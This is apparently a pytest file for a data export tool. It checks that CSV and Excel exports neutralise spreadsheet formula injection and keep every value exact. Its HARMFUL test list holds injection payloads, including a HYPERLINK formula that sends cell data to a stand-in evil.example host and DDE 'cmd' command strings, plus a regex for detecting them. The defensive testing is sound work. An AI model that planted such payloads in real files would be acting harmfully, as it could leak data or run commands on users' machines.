"""Exports for people: nothing that a spreadsheet would run, everything else exactly as it was."""

import csv
import datetime as dt
import io
import math
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal
from python_calamine import CalamineWorkbook
from rich.console import Console

from include.cli import export
from include.cli.excel import CHARACTERS, COLUMNS, ROWS
from include.contracts.columns import Column, TableSchema
from include.errors import DataError, EnvironmentFault

HARMFUL = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "+49 30 123456",
    "-",
    "--",
    "\tplain",
]
HARMLESS = [
    "-5",
    "+5",
    "-1.5",
    "-1,234.50",
    "+3 %",
    "-1e-5",
    " -7",
    "a=b",
    "1-2",
    "x@y",
    "",
    " ",
    "NA",
    "null",
    "'s-Hertogenbosch",
]
RUNS = re.compile(r"^[\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")
NUMBER = re.compile(r" *[+-]?(\d+([.,]\d+)*|[.,]\d+)([eE][+-]?\d+)? ?%?", re.ASCII)


def texts(values: list[str | None]) -> pl.LazyFrame:
    return pl.LazyFrame({"text": pl.Series(values, dtype=pl.String), "n": range(len(values))})


def cells_of_csv(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    return [cell for row in rows for cell in row]


def unguarded(cell: str) -> str:
    """What the documentation promises: one apostrophe less gives the text back."""
    bare = cell.lstrip("'")
    return cell[1:] if cell.startswith("'") and RUNS.search(bare) else cell


@pytest.mark.parametrize("text", HARMFUL)
def test_no_cell_of_a_csv_begins_what_a_spreadsheet_would_run(text: str, tmp_path: Path) -> None:
    """Fault 19: formula cells are made safe in exports for people."""
    assert export.export(texts([text]), tmp_path / "t.csv") == 1
    cells = cells_of_csv(tmp_path / "t.csv")
    assert cells == ["text", "n", f"'{text}", "0"]
    assert unguarded(cells[2]) == text


@pytest.mark.parametrize("text", HARMFUL)
def test_no_cell_of_a_workbook_is_a_formula(text: str, tmp_path: Path) -> None:
    """Fault 19: texts stay texts in Excel, and are as safe when somebody saves them as CSV."""
    export.export(texts([text]), tmp_path / "t.xlsx")
    assert sheet(tmp_path / "t.xlsx") == [["text", "n"], [f"'{text}", 0.0]]
    assert "<f>" not in members(tmp_path / "t.xlsx")


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_plain_numbers_and_ordinary_texts_are_left_alone(text: str, suffix: str, tmp_path: Path) -> None:
    export.export(texts([text]), tmp_path / f"t.{suffix}")
    found = cells_of_csv(tmp_path / "t.csv")[2] if suffix == "csv" else sheet(tmp_path / "t.xlsx")[1][0]
    assert found == text


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("=+-@'\t\r\n \u00a0\ufeff\uff1d159.,eE%aä\U0001f600\x00\";|")))
@example("'=1")
@example("''-5")
@example("'-5")
def test_guarding_is_safe_and_can_be_undone_for_any_text(text: str) -> None:
    """Fault 19, over generated texts."""
    cell = pl.select(export.guarded(pl.lit(text))).item()
    assert not RUNS.search(cell) or NUMBER.fullmatch(cell)
    assert unguarded(cell) == text


def test_headings_are_made_safe_too(tmp_path: Path) -> None:
    frame = pl.LazyFrame({"=cmd()": [1], "fine": [2]})
    export.export(frame, tmp_path / "t.csv")
    export.export(frame, tmp_path / "t.xlsx")
    assert cells_of_csv(tmp_path / "t.csv")[:2] == ["'=cmd()", "fine"]
    assert sheet(tmp_path / "t.xlsx")[0] == ["'=cmd()", "fine"]


def everything() -> pl.DataFrame:
    """Every stored type, with its extremes and an absent value."""
    return pl.DataFrame(
        {
            "text": ['Grün; "a", b\nc', "007", None],
            "int64": [2**63 - 1, -(2**63), None],
            "float64": [0.1 + 0.2, -1.7976931348623157e308, None],
            "float32": pl.Series([0.1, 3.4e38, None], dtype=pl.Float32),
            "bool": [True, False, None],
            "date": [dt.date(2020, 2, 29), dt.date(1850, 1, 1), None],
            "moment": pl.Series(
                [dt.datetime(2020, 1, 1, 12, 30), dt.datetime(2020, 1, 1, 0, 0, 0, 1), None],
                dtype=pl.Datetime("us", "UTC"),
            ),
            "naive": pl.Series(
                [dt.datetime(2020, 1, 1, 12, 30), dt.datetime(1850, 1, 1), None], dtype=pl.Datetime("us")
            ),
            "time": [dt.time(23, 59, 59, 999_999), dt.time(0), None],
            "decimal": pl.Series([Decimal("12.50"), Decimal("-123456789012345678.25"), None], dtype=pl.Decimal(20, 2)),
        }
    )


def test_parquet_is_exact(tmp_path: Path) -> None:
    frame = everything().with_columns(pl.Series("formula", HARMFUL[:3]))
    assert export.export(frame.lazy(), tmp_path / "t.parquet") == 3
    assert_frame_equal(pl.read_parquet(tmp_path / "t.parquet"), frame)


def test_csv_gives_every_value_back(tmp_path: Path) -> None:
    frame = everything()
    assert export.export(frame.lazy(), tmp_path / "t.csv") == 3
    back = pl.read_csv(tmp_path / "t.csv", infer_schema=False)
    assert_frame_equal(
        back.with_columns(
            pl.col("int64").cast(pl.Int64),
            pl.col("float64").cast(pl.Float64),
            pl.col("float32").cast(pl.Float32),
            pl.col("bool") == "true",
            pl.col("date").str.to_date(),
            pl.col("moment").str.to_datetime(time_unit="us", time_zone="UTC"),
            pl.col("naive").str.to_datetime(time_unit="us"),
            pl.col("time").str.to_time("%H:%M:%S%.f"),
            pl.col("decimal").cast(pl.Decimal(20, 2)),
        ),
        frame,
    )


def test_csv_tells_an_empty_text_from_an_absent_one(tmp_path: Path) -> None:
    export.export(pl.LazyFrame({"a": ["", None]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == '"a"\n""\n\n'


def test_excel_gives_back_what_it_can_hold_and_text_for_the_rest(tmp_path: Path) -> None:
    frame = everything()
    assert export.export(frame.lazy(), tmp_path / "t.xlsx") == 3
    heading, first, second = sheet(tmp_path / "t.xlsx")
    assert heading == frame.columns
    assert first == [
        'Grün; "a", b\nc',
        "9223372036854775807",
        0.1 + 0.2,
        0.10000000149011612,
        True,
        dt.date(2020, 2, 29),
        dt.datetime(2020, 1, 1, 12, 30),
        dt.datetime(2020, 1, 1, 12, 30),
        "23:59:59.999999",
        12.5,
    ]
    assert second == [
        "007",
        "-9223372036854775808",
        -1.7976931348623157e308,
        float(pl.Series([3.4e38], dtype=pl.Float32)[0]),
        False,
        "1850-01-01",
        "2020-01-01 00:00:00.000001+00:00",
        "1850-01-01 00:00:00",
        "00:00:00",
        "-123456789012345678.25",
    ]


@settings(max_examples=20, deadline=None)
@given(numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1))
def test_excel_keeps_every_digit_of_a_float(numbers: list[float], tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("floats") / "t.xlsx"
    export.export(pl.LazyFrame({"x": numbers}), path)
    assert [row[0] for row in sheet(path)[1:]] == numbers


def test_infinities_are_text_in_excel(tmp_path: Path) -> None:
    export.export(pl.LazyFrame({"x": [math.inf, -math.inf, math.nan]}), tmp_path / "t.xlsx")
    assert [row[0] for row in sheet(tmp_path / "t.xlsx")[1:]] == ["inf", "-inf", "nan"]


@pytest.mark.parametrize("text", ["<r><t>bold</t></r>", "_x0041_", "a\x07b", "\U0001f600", "<c>&amp;</c>", " padded "])
def test_excel_keeps_texts_that_look_like_its_own_markup(text: str, tmp_path: Path) -> None:
    export.export(texts([text]), tmp_path / "t.xlsx")
    assert sheet(tmp_path / "t.xlsx")[1][0] == text


def test_reasons_of_a_quarantine_are_joined_by_newlines(tmp_path: Path) -> None:
    export.export(pl.LazyFrame({"reasons": [["a", "b"], ["=1"]]}), tmp_path / "t.csv")
    assert cells_of_csv(tmp_path / "t.csv") == ["reasons", "a\nb", "'=1"]


def test_what_excel_cannot_hold_is_a_clear_error_and_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "t.xlsx"
    with pytest.raises(
        DataError, match=r"row 2, column 'text': 32,768 characters, an Excel cell holds 32,767.*\.parquet"
    ):
        export.export(texts(["fine", "x" * (CHARACTERS + 1)]), target)
    with pytest.raises(DataError, match=r"1,048,576 rows below its header: an Excel sheet holds 1,048,575"):
        export.export(pl.select(pl.int_range(ROWS)).lazy(), target)
    with pytest.raises(DataError, match=r"16,385 columns"):
        export.export(pl.DataFrame({f"c{i}": [1] for i in range(COLUMNS + 1)}).lazy(), target)
    assert list(tmp_path.iterdir()) == []


def test_the_longest_cell_of_excel_is_kept(tmp_path: Path) -> None:
    export.export(texts(["x" * CHARACTERS]), tmp_path / "t.xlsx")
    assert sheet(tmp_path / "t.xlsx")[1][0] == "x" * CHARACTERS


def test_a_failed_export_leaves_the_older_file(tmp_path: Path) -> None:
    target = tmp_path / "t.csv"
    target.write_text("older")
    with pytest.raises(DataError, match="column 'nested'"):
        export.export(pl.LazyFrame({"nested": [{"a": 1}]}), target)
    assert target.read_text() == "older"
    assert [path.name for path in tmp_path.iterdir()] == ["t.csv"]


@pytest.mark.parametrize("name", ["t.tsv", "t", "t.xls"])
def test_an_unknown_suffix_is_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(EnvironmentFault, match=r"expected \.parquet, \.csv, \.xlsx"):
        export.export(texts(["a"]), tmp_path / name)


def test_a_folder_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(EnvironmentFault, match="No such file or directory"):
        export.export(texts(["a"]), tmp_path / "absent" / "t.csv")


def test_rows_keep_their_order_over_batches(tmp_path: Path) -> None:
    rows = export.export.__globals__["BATCH"] * 2 + 7
    assert export.export(pl.LazyFrame({"n": range(rows)}), tmp_path / "t.csv") == rows
    assert pl.read_csv(tmp_path / "t.csv")["n"].to_list() == list(range(rows))


def shown(frame: pl.LazyFrame, width: int, schema: TableSchema | None = None) -> str:
    console = Console(width=width, file=io.StringIO(), color_system=None)
    console.print(export.head(frame, 2, schema, width))
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def test_head_shows_types_and_units_under_headings() -> None:
    column = Column(
        name="capacity_mw",
        id=1,
        type="float64",
        nullable=True,
        unit="MW",
        description="x",
        sensitivity="public",
        source=None,
    )
    schema = TableSchema(columns=(column,), key=(), retired={})
    lines = shown(pl.LazyFrame({"capacity_mw": [1.5, None, 3.0]}), 80, schema).splitlines()
    assert [line.strip() for line in lines] == ["capacity_mw", "float64, MW", "1.5", "-"]


def test_head_fits_the_terminal_and_names_the_rest() -> None:
    frame = pl.LazyFrame({f"column_{i}": ["some text"] for i in range(30)})
    text = shown(frame, 60)
    assert max(map(len, text.splitlines())) <= 60
    assert "column_4" in text
    assert "and 25 more columns: column_5" in " ".join(text.split())


def test_head_shows_markup_and_control_characters_as_text() -> None:
    text = shown(pl.LazyFrame({"a": ["[red]x[/red]\x1b[2J", "two\nlines"]}), 80)
    assert "[red]x[/red]\\x1b[2J" in text
    assert "two\\nlines" in text
    assert "\x1b" not in text


def sheet(path: Path) -> list[list[object]]:
    return CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()


def members(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_as_another_file_is_written(tmp_path: Path) -> None:
    frame = pl.DataFrame({"name": ["Ørsted; A/S", "E.ON"], "size": [1.5, None]})
    export.export(frame.lazy(), tmp_path / "x.csv", separator=";", marked=True)
    assert (tmp_path / "x.csv").read_bytes() == '\ufeff"name";"size"\n"Ørsted; A/S";1.5\n"E.ON";\n'.encode()
    export.export(frame.lazy(), tmp_path / "y.csv")
    assert (tmp_path / "y.csv").read_bytes() == '"name","size"\n"Ørsted; A/S",1.5\n"E.ON",\n'.encode()
